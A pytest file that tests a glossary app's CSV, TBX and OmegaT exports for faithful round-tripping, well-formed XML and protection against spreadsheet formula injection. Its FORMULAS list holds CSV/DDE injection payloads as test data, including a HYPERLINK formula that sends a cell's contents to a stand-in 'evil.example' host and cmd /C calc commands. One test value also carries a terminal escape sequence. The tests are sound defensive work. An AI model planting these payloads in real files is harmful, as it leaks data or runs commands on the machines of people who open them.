"""Every export reads back to the same glossary (CSV and TBX: every field; OmegaT: what its two columns carry),
the TBX is well-formed XML whatever the entries hold, and CSV/OmegaT cells cannot run as spreadsheet formulas
while a term that really starts with "-" or "=" comes back unchanged."""

from __future__ import annotations

import csv
import io
import sqlite3
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from lxml import etree

from desktop_app.cli import main
from desktop_app.domain.glossary.model import TermEntry
from desktop_app.formats.errors import FormatError
from desktop_app.formats.glossary_common import FORMULA_TRIGGERS, make_entry, neutralise_formula, restore_formula
from desktop_app.services.glossary import export_glossary, import_glossary
from desktop_app.storage.glossary_store import GlossaryStore, default_glossary_path

# What a spreadsheet would run: OWASP's examples and a few more shapes.
FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"Details\")", "@SUM(1+9)*cmd|' /C calc'!A0",
            "+cmd|' /C notepad'!'B1'", "-2+3+cmd|' /C calc'!A0", "=1+1", "@import", "-", "+7 495 000 00 00",
            "'=already quoted", "''-twice", "=DDE(\"cmd\";\"/C calc\";\"x\")",
            # full-width, as a Chinese or Japanese input method types them
            "＝HYPERLINK(\"http://evil.example\")", "＋７ ４９５", "－2+3+cmd|' /C calc'!A0", "＠SUM(1+9)",
            "'＝already quoted", "''－twice", "＝"]
# Every first character a spreadsheet may run a cell from, written out here rather than taken from PressDesk.
SPREADSHEET_STARTERS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")


def tricky_entries() -> list[TermEntry]:
    """Entries that exercise every field and everything a writer could get wrong."""
    return [
        make_entry({"en": "-ism", "ru": "=СУММ(1;2)", "zh": "+号"},
                   {"en": ("@handle", "'=quoted", "'s-Hertogenbosch"), "ru": ("-изм",)}, {"ru": ("@изм",)},
                   category="term", note="line one\nline\ttwo  spaced\n@note", source="+1 555 0100",
                   valid_from="2023-01", valid_to="2024-06-30", short_forms={"en": ("=ism",)}),
        make_entry({"en": 'AT&T <Group> ]]> "quoted" \'single\'', "ru": "«АТ&Т» <группа>", "zh": "𠮷野家＆公司"},
                   category="organization", source='=HYPERLINK("http://x")', note="<b>not markup</b> &amp;"),
        make_entry({"en": "#MeToo movement", "ru": "движение #MeToo"}, {"ru": ("#MeToo",)}, category="event",
                   source="press office", valid_from="2017"),
        make_entry({"en": "Silk Road Fund", "zh": "丝路基金"}, {"zh": ("絲路基金",)}, {"en": ("Silk Route Fund",)},
                   category="organization", source="official site"),
        make_entry({"en": "Lotus Valley Expo"}, {"ru": ("Выставка «Долина лотосов»", "Экспо Долины лотосов")},
                   {"ru": ("Лотос-Экспо",)}, category="event", source="no approved Russian form yet"),
    ]


def fields(entry: TermEntry) -> tuple[object, ...]:
    return (entry.category, entry.forms, entry.variants, entry.forbidden, entry.short_forms, entry.note,
            entry.source, entry.valid_from, entry.valid_to)


@pytest.fixture
def source_store(tmp_path: Path):  # type: ignore[no-untyped-def]
    with GlossaryStore.open(tmp_path / "source.sqlite") as store:  # the seed, plus the tricky entries
        for entry in tricky_entries():
            store.add(entry)
        yield store


@pytest.mark.parametrize("suffix", [".csv", ".tbx"])
def test_an_export_reads_back_to_the_same_glossary(source_store: GlossaryStore, tmp_path: Path, suffix: str) -> None:
    exported = tmp_path / f"glossary{suffix}"
    assert export_glossary(source_store, exported) == source_store.count()
    with GlossaryStore.open(tmp_path / "copy.sqlite", seed=False) as copy:
        report = import_glossary(copy, exported)
        assert report.skipped == () and report.added == source_store.count()
        assert sorted(map(fields, copy.entries()), key=repr) == sorted(map(fields, source_store.entries()), key=repr)


@pytest.mark.parametrize(("source_lang", "target_lang"), [("en", "ru"), ("zh", "en"), ("ru", "zh")])
def test_an_omegat_export_reads_back_to_the_same_term_pairs(source_store: GlossaryStore, tmp_path: Path,
                                                            source_lang: str, target_lang: str) -> None:
    def pairs(entries: list[TermEntry]) -> list[tuple[object, ...]]:
        """What an OmegaT line carries: the source term, every target form, the source of the facts."""
        return sorted(((e.forms[source_lang], e.forms[target_lang], e.variants[target_lang],
                        e.short_forms[target_lang], e.forbidden[target_lang], e.source) for e in entries
                       if e.forms[source_lang] and (e.forms[target_lang] or e.variants[target_lang]
                                                    or e.short_forms[target_lang])), key=repr)

    exported = tmp_path / "glossary.txt"
    export_glossary(source_store, exported, source_lang=source_lang, target_lang=target_lang)
    with GlossaryStore.open(tmp_path / "copy.sqlite", seed=False) as copy:
        import_glossary(copy, exported)
        assert pairs(copy.entries()) == pairs(source_store.entries())


def test_the_tbx_export_is_well_formed_and_holds_the_markup_characters_as_text(source_store: GlossaryStore,
                                                                               tmp_path: Path) -> None:
    exported = tmp_path / "glossary.tbx"
    export_glossary(source_store, exported)
    root = etree.parse(str(exported), etree.XMLParser(resolve_entities=False)).getroot()
    terms = [t.text for t in root.iter("{*}term")]
    assert 'AT&T <Group> ]]> "quoted" \'single\'' in terms and "𠮷野家＆公司" in terms
    notes = [n.text for n in root.iter("{*}note")]
    assert "<b>not markup</b> &amp;" in notes


def plant(path: Path, column: str, value: str) -> None:
    """Write `value` into the Jinhua entry behind validation's back (an old database, another tool)."""
    conn = sqlite3.connect(path)
    with conn:
        conn.execute(f"update entries set {column} = ? where en = 'Jinhua'", [value])
    conn.close()


@pytest.mark.parametrize("planted", ["Jin\x1b]0;owned\x07hua", "Jin\x00hua", "Jin\ufffehua", "Jin\udc80hua"],
                         ids=repr)
def test_an_entry_xml_cannot_carry_stops_the_tbx_export_with_a_clear_message_and_writes_nothing(
        capsys: pytest.CaptureFixture[str], data_dir: Path, tmp_path: Path, planted: str) -> None:
    path = default_glossary_path(data_dir)
    target = tmp_path / "out.tbx"
    with GlossaryStore.open(path) as store:
        export_glossary(store, target)  # an earlier export: the only kind of file an export replaces
    previous = target.read_bytes()
    plant(path, "en", planted.encode("utf-8", "surrogatepass").decode("utf-8", "replace")
          if "\udc80" in planted else planted)
    code = main(["glossary", "export", str(target)])
    err = capsys.readouterr().err
    if "\udc80" in planted:  # SQLite hands back U+FFFD for the bad bytes: XML-safe, so the export succeeds
        assert code == 0
        etree.parse(str(target))
        return
    assert code == 2 and len(err.strip().splitlines()) == 1
    assert "XML cannot carry" in err and "\x1b" not in err and "\x07" not in err
    assert target.read_bytes() == previous
    with GlossaryStore.open(path) as store, pytest.raises(FormatError):
        export_glossary(store, tmp_path / "other.tbx")
    assert not (tmp_path / "other.tbx").exists()


def csv_cells(path: Path) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(path.read_text(encoding="utf-8"), newline="")) for cell in row]


def omegat_cells(path: Path) -> list[str]:
    lines = path.read_text(encoding="utf-8").splitlines()
    return [cell for line in lines[1:] for cell in line.split("\t")]


@pytest.mark.parametrize("formula", FORMULAS)
@pytest.mark.parametrize(("suffix", "cells"), [(".csv", csv_cells), (".txt", omegat_cells)])
def test_exported_cells_cannot_run_as_formulas_and_read_back_unchanged(tmp_path: Path, formula: str, suffix: str,
                                                                       cells: Callable[[Path], list[str]]) -> None:
    with GlossaryStore.open(tmp_path / "g.sqlite", seed=False) as store:
        variant = "-" + formula.replace("|", " ") + " Россия"  # "|" separates listed forms
        store.add(make_entry({"en": formula, "ru": formula + " Россия"}, {"ru": (variant,)}, note=formula,
                             source=formula))
        store.add(TermEntry(0, "term", {"zh": "", "en": "Tab note", "ru": "Заметка"}, note="\t=1+2", source="desk"))
        before = sorted((fields(replace(e, note=e.note.strip())) for e in store.entries()), key=repr)
        exported = tmp_path / f"glossary{suffix}"
        export_glossary(store, exported)
    written = cells(exported)
    assert written, "the export holds cells"
    assert not [c for c in written if c[:1] in SPREADSHEET_STARTERS]
    assert any(c.startswith("'") and c.lstrip("'")[:1] in "=+-@＝＋－＠" for c in written)
    with GlossaryStore.open(tmp_path / "copy.sqlite", seed=False) as copy:
        import_glossary(copy, exported)
        after = sorted(map(fields, copy.entries()), key=repr)
    if suffix == ".csv":
        assert after == before
    else:
        assert [e[1]["en"] for e in after] == [e[1]["en"] for e in before]
        assert sorted(f for e in after for f in (e[1]["ru"], *e[2]["ru"])) == sorted(
            f for e in before for f in (e[1]["ru"], *e[2]["ru"]))


def test_a_foreign_csv_keeps_a_leading_apostrophe(tmp_path: Path) -> None:
    source = tmp_path / "foreign.csv"
    source.write_text("en,ru\n'-ism,-изм\n'=quoted,'=цитата\n", encoding="utf-8")
    with GlossaryStore.open(tmp_path / "g.sqlite", seed=False) as store:
        import_glossary(store, source)
        assert sorted(e.forms["en"] for e in store.entries()) == ["'-ism", "'=quoted"]


@settings(max_examples=300, deadline=None)
@given(st.text(alphabet=st.sampled_from("'=+-@#\t\r＝＋－＠ab Ж中|\"＇"), max_size=12))
def test_neutralising_a_cell_is_undone_exactly_and_leaves_nothing_a_spreadsheet_would_run(cell: str) -> None:
    for triggers in (FORMULA_TRIGGERS, (*FORMULA_TRIGGERS, "#")):
        written = neutralise_formula(cell, triggers)
        assert written[:1] not in triggers and written[:1] not in SPREADSHEET_STARTERS
        assert restore_formula(written, triggers) == cell


@pytest.mark.parametrize("starter", SPREADSHEET_STARTERS)
@pytest.mark.parametrize("apostrophes", range(3))
def test_every_formula_starter_gets_one_apostrophe_more_and_loses_it_on_reading(starter: str,
                                                                                apostrophes: int) -> None:
    cell = "'" * apostrophes + starter + "SUM(A1)"
    assert neutralise_formula(cell) == "'" + cell
    assert restore_formula("'" + cell) == cell
    plain = "'" * apostrophes + "中" + starter
    assert neutralise_formula(plain) == plain and restore_formula(plain) == plain


@pytest.mark.parametrize("suffix", [".csv", ".txt"])
def test_full_width_formulas_export_inert_and_read_back_unchanged(tmp_path: Path, suffix: str) -> None:
    """A Chinese term typed with an input method can start with ＝ ＋ － ＠; the file a spreadsheet opens
    carries each with an apostrophe before it, and importing that file gives back the very same terms."""
    terms = {"zh": "＝外交部", "en": "＋Foreign Ministry", "ru": "－Министерство"}
    with GlossaryStore.open(tmp_path / "g.sqlite", seed=False) as store:
        store.add(make_entry(terms, {"zh": ("＠外交部",)}, note="＝1+1"))
        exported = tmp_path / f"glossary{suffix}"
        export_glossary(store, exported, source_lang="en", target_lang="zh")
    written = (csv_cells if suffix == ".csv" else omegat_cells)(exported)
    assert {"'＝外交部", "'＋Foreign Ministry", "'＠外交部"} <= set(written)
    assert not [c for c in written if c[:1] in SPREADSHEET_STARTERS]
    with GlossaryStore.open(tmp_path / "copy.sqlite", seed=False) as copy:
        import_glossary(copy, exported)
        (entry,) = copy.entries()
    if suffix == ".csv":
        assert (entry.forms, entry.variants["zh"], entry.note) == (terms, ("＠外交部",), "＝1+1")
    else:
        assert (entry.forms["en"], entry.forms["zh"], entry.variants["zh"]) == (terms["en"], terms["zh"],
                                                                              ("＠外交部",))
